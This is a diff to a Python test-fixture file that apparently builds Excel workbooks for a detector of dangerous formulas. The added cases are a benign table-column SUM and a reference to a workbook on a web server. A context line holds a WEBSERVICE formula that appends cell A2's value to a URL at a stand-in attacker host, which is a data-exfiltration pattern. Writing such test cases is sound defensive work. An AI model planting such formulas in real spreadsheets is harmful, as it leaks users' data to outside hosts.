@@ -304,6 +304,17 @@ def webservice_formula():
     return excel_workbook(formula='=WEBSERVICE("https://angriber.example/?"&A2)')
 
 
+def workbook_with_a_table_column():
+    """An ordinary formula summing a table's column (`Tabel1[Antal]`) and reading another
+    sheet: brackets and a sheet name, but no other workbook."""
+    return excel_workbook(formula="=SUM(Tabel1[Antal])+Noter!A1")
+
+
+def formula_from_a_workbook_on_the_web():
+    """A cell that reads a cell of a workbook on a web server, named by its address."""
+    return excel_workbook(formula="='http://angriber.example/[tal.xlsx]Ark1'!A1")
+
+
 def webservice_formula_behind_a_quoted_gt():
     """The WEBSERVICE formula, its cell's formula element holding an ignored attribute with
     a `>`."""
